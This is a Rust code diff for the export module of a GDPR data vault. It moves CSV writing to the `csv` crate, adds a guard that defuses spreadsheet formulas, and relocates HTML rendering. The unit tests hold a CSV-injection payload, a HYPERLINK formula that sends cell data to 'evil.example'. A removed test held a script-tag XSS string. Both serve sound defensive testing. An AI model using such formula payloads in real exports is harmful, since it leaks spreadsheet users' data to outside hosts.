@@ -1,10 +1,16 @@
 //! File formats for what leaves the vault on purpose: CSV, XLSX and HTML
 //! renderings of the legal-basis view and the Art. 30 register. Pure
-//! functions of their input; the caller decides where the bytes go.
+//! functions of their input; the caller decides where the bytes go. CSV is
+//! written by the `csv` crate, XLSX by `rust_xlsxwriter`.
 
+mod html;
 pub mod mail;
 pub mod package;
 mod vcard;
+
+pub use html::register_html;
+
+use std::borrow::Cow;
 
 use rust_xlsxwriter::{Format, Workbook, Worksheet, XlsxError};
 
@@ -49,56 +55,85 @@ impl ExportFormat {
     }
 }
 
-/// Appends one CSV line (RFC 4180 quoting).
-///
-/// Every cell a spreadsheet would read as a formula — first character `=`,
-/// `+`, `-`, `@`, tab or CR — gets a leading apostrophe `'`, with no
-/// exception for numbers: `-1+HYPERLINK(…)` is a formula as much as `=1`.
-/// The apostrophe is the OWASP recommendation; Excel and LibreOffice Calc
-/// read it as "this cell is text" and hide it, so a phone number
-/// `+49 30 1234` shows as itself (as text, not as the number 49301234) and
-/// a plain-text reader sees `'+49 30 1234`, which is still readable.
-pub fn csv_line(out: &mut String, cells: &[&str]) {
-    for (i, cell) in cells.iter().enumerate() {
-        if i > 0 {
-            out.push(',');
-        }
-        let guarded;
-        let formula = matches!(
-            cell.chars().next(),
-            Some('=' | '+' | '-' | '@' | '\t' | '\r')
-        );
-        let cell = if formula {
-            guarded = format!("'{cell}");
-            guarded.as_str()
-        } else {
-            cell
-        };
-        if cell.contains([',', '"', '\n', '\r']) {
-            out.push('"');
-            out.push_str(&cell.replace('"', "\"\""));
-            out.push('"');
-        } else {
-            out.push_str(cell);
-        }
+/// The cell as a CSV file holds it: every cell a spreadsheet would read as
+/// a formula — first character `=`, `+`, `-`, `@`, tab or CR — gets a
+/// leading apostrophe `'`, with no exception for numbers: `-1+HYPERLINK(…)`
+/// is a formula as much as `=1`. The apostrophe is the OWASP
+/// recommendation; Excel and LibreOffice Calc read it as "this cell is
+/// text" and hide it, so a phone number `+49 30 1234` shows as itself (as
+/// text, not as the number 49301234) and a plain-text reader sees
+/// `'+49 30 1234`, which is still readable.
+pub fn guard_formula(cell: &str) -> Cow<'_, str> {
+    if matches!(
+        cell.chars().next(),
+        Some('=' | '+' | '-' | '@' | '\t' | '\r')
+    ) {
+        Cow::Owned(format!("'{cell}"))
+    } else {
+        Cow::Borrowed(cell)
     }
-    out.push_str("\r\n");
 }
 
-/// Escapes text for HTML element content and attribute values.
-pub fn html_escape(s: &str) -> String {
-    let mut out = String::with_capacity(s.len());
-    for c in s.chars() {
-        match c {
-            '&' => out.push_str("&amp;"),
-            '<' => out.push_str("&lt;"),
-            '>' => out.push_str("&gt;"),
-            '"' => out.push_str("&quot;"),
-            '\'' => out.push_str("&#39;"),
-            c => out.push(c),
+/// A CSV file being written. The `csv` crate quotes as RFC 4180 asks (a
+/// cell with a comma, a quote, CR or LF is quoted, its quotes doubled),
+/// ends every line with CRLF and takes rows of any length, so one file can
+/// hold tables of different widths; every cell passes [`guard_formula`]
+/// first. A row of one empty cell comes out as `""`, so that a reader does
+/// not take it for a blank line; no file here has such a row.
+pub(crate) struct CsvFile {
+    out: csv::Writer<Vec<u8>>,
+}
+
+impl CsvFile {
+    /// A file that begins with `start`.
+    fn new(start: &str) -> Self {
+        CsvFile {
+            out: Self::writer(start.as_bytes().to_vec()),
         }
     }
-    out
+
+    fn writer(bytes: Vec<u8>) -> csv::Writer<Vec<u8>> {
+        csv::WriterBuilder::new()
+            .flexible(true)
+            .terminator(csv::Terminator::CRLF)
+            .quote_style(csv::QuoteStyle::Necessary)
+            .from_writer(bytes)
+    }
+
+    /// A file that begins with the UTF-8 byte-order mark, so spreadsheet
+    /// programs read umlauts.
+    pub(crate) fn with_bom() -> Self {
+        CsvFile::new("\u{feff}")
+    }
+
+    /// Appends one row.
+    pub(crate) fn row<S: AsRef<str>>(&mut self, cells: &[S]) {
+        let cells: Vec<Cow<'_, str>> = cells.iter().map(|c| guard_formula(c.as_ref())).collect();
+        self.out
+            .write_record(cells.iter().map(|c| c.as_bytes()))
+            .expect("rows of any length go into memory");
+    }
+
+    /// Appends an empty line, which separates two tables. The `csv` crate
+    /// writes none (a row of no cells comes out as `""`), so the line goes
+    /// into the bytes written so far, and writing goes on after it.
+    pub(crate) fn blank_line(&mut self) {
+        let written = std::mem::replace(&mut self.out, Self::writer(Vec::new()));
+        let mut bytes = Self::bytes(written);
+        bytes.extend_from_slice(b"\r\n");
+        self.out = Self::writer(bytes);
+    }
+
+    fn bytes(out: csv::Writer<Vec<u8>>) -> Vec<u8> {
+        out.into_inner()
+            .map_err(|e| e.into_error())
+            .expect("a Vec<u8> takes every byte")
+    }
+
+    /// The file's text.
+    pub(crate) fn finish(self) -> String {
+        String::from_utf8(Self::bytes(self.out)).expect("every cell was UTF-8")
+    }
 }
 
 fn xlsx_err(e: XlsxError) -> Error {
@@ -242,26 +277,20 @@ fn basis_rows(view: &LegalBasisView, lang: Lang) -> Vec<Vec<String>> {
 
 /// The legal-basis view as CSV: one section per table, separated by a blank line.
 pub fn legal_basis_csv(view: &LegalBasisView, lang: Lang) -> String {
-    let mut out = String::from("\u{feff}");
-    csv_line(&mut out, &[lang.pick("Person", "Person"), &view.display]);
-    csv_line(
-        &mut out,
-        &[lang.pick("Erstellt", "Generated"), &date(view.generated)],
-    );
-    out.push_str("\r\n");
-    csv_line(&mut out, &basis_header(lang));
+    let mut out = CsvFile::with_bom();
+    out.row(&[lang.pick("Person", "Person"), &view.display]);
+    out.row(&[lang.pick("Erstellt", "Generated"), &date(view.generated)]);
+    out.blank_line();
+    out.row(&basis_header(lang));
     for row in basis_rows(view, lang) {
-        let cells: Vec<&str> = row.iter().map(String::as_str).collect();
-        csv_line(&mut out, &cells);
+        out.row(&row);
     }
-    out.push_str("\r\n");
-    csv_line(&mut out, &history_header(lang));
+    out.blank_line();
+    out.row(&history_header(lang));
     for e in &view.history {
-        let row = history_row(e, view, lang);
-        let cells: Vec<&str> = row.iter().map(String::as_str).collect();
-        csv_line(&mut out, &cells);
+        out.row(&history_row(e, view, lang));
     }
-    out
+    out.finish()
 }
 
 /// The legal-basis view as an XLSX workbook (legal bases, history, disclosures).
@@ -480,136 +509,58 @@ pub fn register_xlsx(r: &Register, lang: Lang) -> Result<Vec<u8>> {
     wb.save_to_buffer().map_err(xlsx_err)
 }
 
-fn html_table(out: &mut String, header: &[&str], rows: &[Vec<String>]) {
-    out.push_str("<table>\n<thead><tr>");
-    for h in header {
-        out.push_str(&format!("<th>{}</th>", html_escape(h)));
-    }
-    out.push_str("</tr></thead>\n<tbody>\n");
-    for row in rows {
-        out.push_str("<tr>");
-        for cell in row {
-            let lines: Vec<String> = cell.lines().map(html_escape).collect();
-            out.push_str(&format!("<td>{}</td>", lines.join("<br>")));
-        }
-        out.push_str("</tr>\n");
-    }
-    out.push_str("</tbody>\n</table>\n");
-}
-
-/// The register as a self-contained HTML page (no scripts, no remote parts).
-pub fn register_html(r: &Register, lang: Lang) -> String {
-    let mut out = String::new();
-    let title = register_title(lang);
-    out.push_str(&format!(
-        "<!DOCTYPE html>\n<html lang=\"{}\">\n<head>\n<meta charset=\"utf-8\">\n\
-         <meta http-equiv=\"Content-Security-Policy\" content=\"default-src 'none'; style-src 'unsafe-inline'\">\n\
-         <title>{}</title>\n<style>\n\
-         body{{font-family:sans-serif;margin:2em;color:#111}}\
-         table{{border-collapse:collapse;width:100%;margin-bottom:2em}}\
-         th,td{{border:1px solid #999;padding:.3em .5em;text-align:left;vertical-align:top}}\
-         th{{background:#eee}}\n</style>\n</head>\n<body>\n",
-        match lang {
-            Lang::De => "de",
-            Lang::En => "en",
-        },
-        html_escape(title)
-    ));
-    out.push_str(&format!("<h1>{}</h1>\n", html_escape(title)));
-    out.push_str(&format!("<p>{}</p>\n", html_escape(&version_line(r, lang))));
-    out.push_str(&format!(
-        "<h2>{}</h2>\n",
-        lang.pick("Verarbeitungstätigkeiten", "Processing activities")
-    ));
-    html_table(
-        &mut out,
-        &register_purpose_header(lang),
-        &register_purpose_rows(r, lang),
-    );
-    out.push_str(&format!(
-        "<h2>{}</h2>\n",
-        lang.pick(
-            "Kategorien personenbezogener Daten",
-            "Categories of personal data"
-        )
-    ));
-    html_table(
-        &mut out,
-        &register_category_header(lang),
-        &register_category_rows(r, lang),
-    );
-    out.push_str(&format!(
-        "<h2>{}</h2>\n<ul>\n",
-        lang.pick(
-            "Technische und organisatorische Maßnahmen (Art. 32 DSGVO)",
-            "Technical and organisational measures (Art. 32 GDPR)"
-        )
-    ));
-    for m in &r.content.measures {
-        out.push_str(&format!("<li>{}</li>\n", html_escape(m.get(lang))));
-    }
-    out.push_str("</ul>\n</body>\n</html>\n");
-    out
-}
-
 /// A mailing list as CSV (UTF-8 with BOM so spreadsheet programs read umlauts).
 pub fn mailing_csv(rows: &[MailingRow]) -> String {
-    let mut out = String::from("\u{feff}");
-    csv_line(
-        &mut out,
-        &[
-            "id",
-            "salutation",
-            "title",
-            "given_name",
-            "family_name",
-            "address",
-            "language",
-        ],
-    );
+    let mut out = CsvFile::with_bom();
+    out.row(&[
+        "id",
+        "salutation",
+        "title",
+        "given_name",
+        "family_name",
+        "address",
+        "language",
+    ]);
     for r in rows {
-        let id = r.person.to_string();
-        csv_line(
-            &mut out,
-            &[
-                &id,
-                &r.salutation,
-                &r.title,
-                &r.given_name,
-                &r.family_name,
-                &r.address,
-                &r.language,
-            ],
-        );
+        out.row(&[
+            r.person.to_string().as_str(),
+            &r.salutation,
+            &r.title,
+            &r.given_name,
+            &r.family_name,
+            &r.address,
+            &r.language,
+        ]);
     }
-    out
+    out.finish()
 }
 
 #[cfg(test)]
 mod tests {
     use super::*;
 
+    /// One row as a file without a BOM holds it.
+    fn line(cells: &[&str]) -> String {
+        let mut out = CsvFile::new("");
+        out.row(cells);
+        out.finish()
+    }
+
     #[test]
     fn csv_quotes_and_defuses_formulas() {
-        let mut s = String::new();
-        csv_line(&mut s, &["a,b", "say \"hi\"", "=HYPERLINK(1)", "plain"]);
+        let s = line(&["a,b", "say \"hi\"", "=HYPERLINK(1)", "plain"]);
         assert_eq!(s, "\"a,b\",\"say \"\"hi\"\"\",'=HYPERLINK(1),plain\r\n");
-        let mut t = String::new();
-        csv_line(&mut t, &["+49 171 2345678", "+SUM(A1)", "-1", "@x"]);
+        let t = line(&["+49 171 2345678", "+SUM(A1)", "-1", "@x"]);
         assert_eq!(t, "'+49 171 2345678,'+SUM(A1),'-1,'@x\r\n");
-        let mut u = String::new();
-        csv_line(
-            &mut u,
-            &[
-                "-1+HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
-                "+1 cmd",
-                "- 2",
-                "\tx",
-                "\rx",
-                "a-1",
-                "'already",
-            ],
-        );
+        let u = line(&[
+            "-1+HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
+            "+1 cmd",
+            "- 2",
+            "\tx",
+            "\rx",
+            "a-1",
+            "'already",
+        ]);
         assert_eq!(
             u,
             "\"'-1+HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\")\",\
@@ -618,10 +569,27 @@ mod tests {
     }
 
     #[test]
-    fn html_escapes_markup() {
-        assert_eq!(
-            html_escape("<script>alert('x')&\"</script>"),
-            "&lt;script&gt;alert(&#39;x&#39;)&amp;&quot;&lt;/script&gt;"
-        );
+    fn a_csv_file_has_a_bom_crlf_lines_and_blank_lines_between_tables() {
+        let mut out = CsvFile::with_bom();
+        out.row(&["a", "b"]);
+        out.blank_line();
+        out.row(&["c", "", "d"]);
+        assert_eq!(out.finish(), "\u{feff}a,b\r\n\r\nc,,d\r\n");
+    }
+
+    #[test]
+    fn a_cell_with_a_quote_a_comma_and_a_newline_reads_back_unchanged() {
+        let cell = "Hof \"Linde\", Tor 2\nbitte klingeln";
+        let mut out = CsvFile::with_bom();
+        out.row(&["name", "address"]);
+        out.row(&["Jörg", cell]);
+        let text = out.finish();
+        let mut reader = csv::ReaderBuilder::new()
+            .has_headers(false)
+            .from_reader(text.as_bytes());
+        let rows: Vec<csv::StringRecord> = reader.records().collect::<Result<_, _>>().expect("csv");
+        assert_eq!(rows.len(), 2);
+        assert_eq!(rows[0].iter().collect::<Vec<_>>(), ["name", "address"]);
+        assert_eq!(rows[1].iter().collect::<Vec<_>>(), ["Jörg", cell]);
     }
 }
